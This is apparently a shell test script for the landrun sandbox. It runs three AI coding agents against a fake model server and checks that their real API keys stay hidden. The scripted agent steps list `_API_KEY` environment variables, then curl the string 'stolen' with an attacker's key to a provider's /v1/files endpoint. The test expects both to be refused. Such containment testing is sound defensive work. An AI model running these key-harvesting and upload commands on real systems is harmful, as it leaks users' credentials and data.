#!/bin/bash
# SPDX-License-Identifier: MIT
#
# providers.sh [LANDRUN] [--as-nobody] - the three real harnesses under
# their shipped profiles, unchanged, talking to their providers by their real
# names through landrun's proxy, which ends their TLS: OpenCode to OpenCode
# Zen (opencode.ai, with no key, as a new user starts) and to OpenAI, Codex to
# OpenAI, Claude Code to Anthropic.  The providers are the fake model
# (fake_model.py --tls) at 11.1.1.1:443 under a test CA, in a network and
# mount namespace of the test's own whose /etc/hosts gives api.openai.com,
# api.anthropic.com and opencode.ai that address; landrun trusts the test CA
# through SSL_CERT_FILE in its own environment, as a corporate CA would be.
#
# Judged outside the sandbox: each session completes; the provider got the
# caller's real key, set by the proxy (the profiles' secret-header-if-set),
# while the harness's environment, as its own shell tool prints it, holds the
# placeholder; a request of the agent's to a storage endpoint of the same
# provider (/v1/files, with an attacker's key) and OpenCode's /share are
# refused, and the provider saw nothing of them; Claude Code once more with
# no user namespaces (the broker's connects).  With --as-nobody (as root)
# the body runs as uid 65534.  TAP output.  A harness that is not installed
# and cannot be (npm registry unreachable) is skipped.

set -u
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/lib.sh"
lr_args "$@"

if [ -z "${LR_BODY:-}" ]; then
	[ "$(id -u)" = 0 ] || skip_all "needs root: the test makes a network and mount namespace of its own"
	if [ -z "${LR_PROVIDERS_NS:-}" ]; then
		# the installs first, in the caller's network (the registry)
		OC_DIR=$(lr_npm_install opencode-ai "$LR_OPENCODE_VERSION")
		CX_DIR=$(lr_npm_install @openai/codex "$LR_CODEX_VERSION")
		CL_DIR=$(lr_npm_install @anthropic-ai/claude-code "$LR_CLAUDE_VERSION")
		LR_PROVIDERS_NS=1 exec unshare --net --mount --propagation private -- "$0" "$@"
	fi
	ip link set lo up && ip addr add 11.1.1.1/32 dev lo || exit 1
	# the providers listen on 443 as nobody too (this namespace only)
	sysctl -qw net.ipv4.ip_unprivileged_port_start=0 || exit 1
	etc=$(mktemp -d /tmp/landrun-providers-etc.XXXXXX) || exit 1
	printf '%s\n' '127.0.0.1 localhost' '11.1.1.1 api.openai.com' \
		'11.1.1.1 api.anthropic.com' '11.1.1.1 opencode.ai' '11.1.1.1 models.opencode.ai' >"$etc/hosts"
	# no resolver: the proxy finds the providers in /etc/hosts
	printf 'nameserver 127.0.0.53\noptions timeout:1 attempts:1\n' >"$etc/resolv.conf"
	chmod 644 "$etc"/* && mount --bind "$etc/hosts" /etc/hosts &&
		mount --bind "$etc/resolv.conf" /etc/resolv.conf || exit 1
	rm -rf "$etc"
fi
OC_DIR=$LR_CACHE/opencode-ai CX_DIR=$LR_CACHE/openai-codex CL_DIR=$LR_CACHE/anthropic-ai-claude-code
lr_become_nobody
lr_workdir harness-providers

# the test CA, and one certificate for the three names
C=$W/ca
mkdir -p "$C" || exit 1
if ! { openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
	-subj /CN=landrun-test-ca -addext basicConstraints=critical,CA:TRUE \
	-addext keyUsage=critical,keyCertSign -keyout "$C/ca.key" -out "$C/ca.pem" &&
	openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=providers \
		-keyout "$C/key.pem" -out "$C/csr.pem" &&
	printf 'subjectAltName=DNS:api.openai.com,DNS:api.anthropic.com,DNS:opencode.ai,DNS:models.opencode.ai\nextendedKeyUsage=serverAuth\n' \
		>"$C/ext" &&
	openssl x509 -req -in "$C/csr.pem" -CA "$C/ca.pem" -CAkey "$C/ca.key" -CAcreateserial \
		-days 2 -extfile "$C/ext" -out "$C/cert.pem"; } >"$C/openssl.log" 2>&1; then
	echo "Bail out! openssl cannot make the providers' certificate: $(tail -3 "$C/openssl.log")"
	exit 1
fi

LOG=$W/requests.jsonl
: >"$LOG" || exit 1
echo '[]' >"$W/script.json"
python3 "$HERE/fake_model.py" --host 11.1.1.1 --port 443 --tls "$C/cert.pem" "$C/key.pem" \
	--script "$W/script.json" --log "$LOG" --port-file "$W/port" --lifetime 500 \
	2>"$W/server.err" &
SERVER=$!
lr_wait_file "$W/port" 10 || { echo "Bail out! the fake providers did not start: $(cat "$W/server.err")"; exit 1; }

H=$W/home P=$W/proj
mkdir -p "$H/.config/opencode" "$H/.codex" "$H/.claude" "$P" || exit 1
lr_profiles "$H" || exit 1
git -C "$P" init -q && echo '{ "name": "proj" }' >"$P/package.json" &&
	echo 'SECRET_TOKEN=providers-secret' >"$P/.env" || exit 1
KEY=sk-real-$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')

script() { printf '%s\n' "$1" >"$W/script.json.tmp" && mv "$W/script.json.tmp" "$W/script.json"; }

# run VAR BIN ARGS...: the harness BIN under its profile (chosen by its
# name, as `landrun -- codex` does), from the project root, with the real key
# in VAR of landrun's environment (none if VAR is -)
run() {
	local key=()
	[ "$1" = - ] || key=("$1=$KEY")
	shift
	(cd "$P" && env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$H" TERM=dumb LANG=C.UTF-8 \
		SSL_CERT_FILE="$C/ca.pem" "${key[@]}" \
		OPENCODE_DISABLE_CLAUDE_CODE=1 DISABLE_AUTOUPDATER=1 DISABLE_TELEMETRY=1 \
		"${WRAP[@]}" timeout 200 "$LANDRUN" --log-level info "$@") >"$W/out" 2>"$W/err"
	RUNS=$((RUNS + 1))
	cp "$W/out" "$W/out.$RUNS" && cp "$W/err" "$W/err.$RUNS"	# for LANDRUN_KEEP
}
RUNS=0
WRAP=()
# no user namespaces (Ubuntu's default for unprivileged users, a container
# engine's seccomp profile): user.max_user_namespaces=0 in a user namespace
# of the test's own, so nothing else on the machine loses them; exits 200
# when that cannot be made (uid 0 keeps its capabilities in it across exec:
# without CAP_SYS_ADMIN it makes no network namespace either)
NO_USERNS=(unshare --user --map-user="$(id -u)" --map-group="$(id -g)" --keep-caps --
	/bin/sh -c 'echo 0 >/proc/sys/user/max_user_namespaces || exit 200
		exec setpriv "$@"' sh)
[ "$(id -u)" = 0 ] && NO_USERNS+=(--bounding-set=-sys_admin)
NO_USERNS+=(--inh-caps=-all --ambient-caps=-all --)

# the requests to PATH since the log had BEFORE lines
since() { tail -n +"$((BEFORE + 1))" "$LOG"; }
sent_key() { # PATH HEADER VALUE: a request to PATH carried HEADER: VALUE
	since | python3 -c 'import json, sys
path, h, v = sys.argv[1:]
sys.exit(0 if any(r["path"].split("?")[0] == path and r["keys"].get(h) == v
                  for r in map(json.loads, sys.stdin)) else 1)' "$@"
}
saw_path() { since | grep -q "\"path\": \"$1"; }
detail() { echo "requests: $(since | python3 -c 'import json, sys
print(" ".join(r["method"] + " " + r["path"] for r in map(json.loads, sys.stdin)))')"
	echo "stderr: $(grep -v "^landrun: egress: allowed" "$W/err" | tail -n 12)"; }

# the agent's two steps, in each harness's shell tool: its environment's
# keys; a storage endpoint of the provider with an attacker's key
steps() { # TOOL ARGNAME HOST PATH HEADER
	local env_cmd="env | grep -E '_API_KEY=' | sort; echo LR-EXIT=\$?"
	local files_cmd="curl -sS -m 10 -o /dev/null -w 'HTTP %{http_code}\\\\n' -X POST https://$3$4 -H '$5: sk-attacker' -d stolen; echo LR-EXIT=\$?"
	script "[{\"name\": \"$1\", \"arguments\": {\"$2\": \"$env_cmd\", \"description\": \"keys\"}},
 {\"name\": \"$1\", \"arguments\": {\"$2\": \"$files_cmd\", \"description\": \"upload\"}}]"
}
judge_steps() { # WHO VAR
	# this run's requests only: an earlier harness's results must not pass for its
	since >"$W/since.jsonl" && lr_read_results "$W/since.jsonl" "$W/results"
	if has 1 "^$2=landrun-placeholder" && ! result 1 | grep -q "$KEY"; then
		ok "$1: the agent's environment holds the placeholder, not the key"
	else
		not_ok "$1: the agent's environment holds the placeholder, not the key" "$(result 1)" "$(detail)"
	fi
	if has 2 'HTTP 403' && ! saw_path /v1/files; then
		ok "$1: the agent's upload to /v1/files with another key is refused (403), unseen by the provider"
	else
		not_ok "$1: the agent's upload to /v1/files with another key is refused (403), unseen by the provider" \
			"$(result 2)" "$(detail)"
	fi
}

# ---------------------------------------------------------------- OpenCode

if ! OC=$(lr_opencode_bin "$OC_DIR"); then
	skip "opencode" "OpenCode is not installed in $LR_CACHE (npm registry unreachable)"
else
	# as a new user starts: no key, no configuration; the model list from
	# models.opencode.ai, and OpenCode Zen's free model
	script '[{"name": "bash", "arguments": {"command": "curl -sS -m 10 -o /dev/null -w \"HTTP %{http_code}\\n\" -X POST https://opencode.ai/api/share -d x; echo LR-EXIT=$?", "description": "share"}}]'
	BEFORE=$(wc -l <"$LOG")
	run - -- "$OC" run -m opencode/fake-free "Run the landrun provider test."
	RC=$?
	if [ "$RC" = 0 ] && since | grep -q '"path": "/api.json"' &&
		sent_key /zen/v1/chat/completions authorization "Bearer public"; then
		ok "opencode, no key: its model list, then Zen's free model, through the proxy (its own 'public' key passes)"
	else
		not_ok "opencode, no key: its model list, then Zen's free model, through the proxy (its own 'public' key passes)" \
			"exit $RC" "$(detail)"
	fi
	lr_read_results "$LOG" "$W/results"
	if has 1 'HTTP 403' && ! saw_path /api/share; then
		ok "opencode: a POST to opencode.ai/api/share is refused (403), unseen by the provider"
	else
		not_ok "opencode: a POST to opencode.ai/api/share is refused (403), unseen by the provider" \
			"$(result 1)" "$(detail)"
	fi
	# an OpenAI key: held outside
	steps bash command api.openai.com /v1/files Authorization
	BEFORE=$(wc -l <"$LOG")
	run OPENAI_API_KEY -- "$OC" run -m openai/gpt-5.1 "Run the landrun provider test."
	RC=$?
	if [ "$RC" = 0 ] && sent_key /v1/responses authorization "Bearer $KEY"; then
		ok "opencode, OPENAI_API_KEY: api.openai.com/v1/responses got the real key, set by the proxy"
	else
		not_ok "opencode, OPENAI_API_KEY: api.openai.com/v1/responses got the real key, set by the proxy" \
			"exit $RC" "$(detail)"
	fi
	judge_steps opencode OPENAI_API_KEY
fi

# ---------------------------------------------------------------- Codex

CX=$(ls "$CX_DIR"/node_modules/@openai/codex-linux-*/vendor/*/bin/codex 2>/dev/null | head -n 1)
if [ -z "$CX" ]; then
	skip "codex" "Codex is not installed in $LR_CACHE (npm registry unreachable)"
else
	steps exec_command cmd api.openai.com /v1/files Authorization
	BEFORE=$(wc -l <"$LOG")
	# a model Codex knows nothing of: it offers its tools as they are
	# (exec_command); for its default model it wraps them in a JavaScript
	# "exec" tool, which the fake model does not speak
	run OPENAI_API_KEY -- "$CX" exec --skip-git-repo-check -m fake-model -c approval_policy=never \
		-c sandbox_mode=danger-full-access "Run the landrun provider test."
	RC=$?
	# over the WebSocket Codex asks for first (the profile's WEBSOCKET rule):
	# no retries, no fall-back to HTTPS
	if [ "$RC" = 0 ] && sent_key /v1/responses authorization "Bearer $KEY" &&
		since | grep -q '"method": "WS", "path": "/v1/responses"' &&
		! grep -q "Falling back from WebSockets" "$W/err"; then
		ok "codex, OPENAI_API_KEY: api.openai.com/v1/responses got the real key over its WebSocket, set by the proxy"
	else
		not_ok "codex, OPENAI_API_KEY: api.openai.com/v1/responses got the real key over its WebSocket, set by the proxy" \
			"exit $RC" "$(detail)"
	fi
	judge_steps codex OPENAI_API_KEY
fi

# ---------------------------------------------------------------- Claude Code

CL=
for c in "$CL_DIR"/node_modules/@anthropic-ai/claude-code-linux-*/claude \
	"$CL_DIR/node_modules/@anthropic-ai/claude-code/bin/claude.exe"; do
	if [ -x "$c" ] && "$c" --version >/dev/null 2>&1; then CL=$c; break; fi
done
if [ -z "$CL" ]; then
	skip "claude" "Claude Code is not installed in $LR_CACHE (npm registry unreachable)"
else
	steps Bash command api.anthropic.com /v1/files x-api-key
	BEFORE=$(wc -l <"$LOG")
	run ANTHROPIC_API_KEY -- "$CL" -p "Run the landrun provider test." --allowedTools Bash
	RC=$?
	if [ "$RC" = 0 ] && sent_key /v1/messages x-api-key "$KEY"; then
		ok "claude, ANTHROPIC_API_KEY: api.anthropic.com/v1/messages got the real key, set by the proxy"
	else
		not_ok "claude, ANTHROPIC_API_KEY: api.anthropic.com/v1/messages got the real key, set by the proxy" \
			"exit $RC" "$(detail)"
	fi
	judge_steps claude ANTHROPIC_API_KEY
	# the same with no user namespace, so no network namespace: the
	# broker connects the harness to the proxy
	steps Bash command api.anthropic.com /v1/files x-api-key
	BEFORE=$(wc -l <"$LOG")
	WRAP=("${NO_USERNS[@]}")
	run ANTHROPIC_API_KEY --explain -- "$CL"
	grep -q 'mode loopback, brokered' "$W/out" && MODE=brokered || MODE="not brokered: $(grep -m1 'mode ' "$W/out")"
	run ANTHROPIC_API_KEY -- "$CL" -p "Run the landrun provider test." --allowedTools Bash
	RC=$?
	WRAP=()
	if [ "$RC" = 200 ]; then
		skip "claude, no user namespaces" "needs user namespaces, nested (user.max_user_namespaces could not be set in one of the test's own)"
	elif [ "$RC" = 0 ] && [ "$MODE" = brokered ] && sent_key /v1/messages x-api-key "$KEY"; then
		ok "claude, no user namespaces (the broker's connects): api.anthropic.com/v1/messages got the real key"
	else
		not_ok "claude, no user namespaces (the broker's connects): api.anthropic.com/v1/messages got the real key" \
			"exit $RC, $MODE" "$(detail)"
	fi
	[ "$RC" = 200 ] || judge_steps "claude, no user namespaces" ANTHROPIC_API_KEY
fi

# the key reached no file the sandbox wrote
if grep -rqF "$KEY" "$H" "$P" 2>/dev/null; then
	not_ok "the key is in no file of the home or the project" "$(grep -rlF "$KEY" "$H" "$P")"
else
	ok "the key is in no file of the home or the project"
fi

tap_end
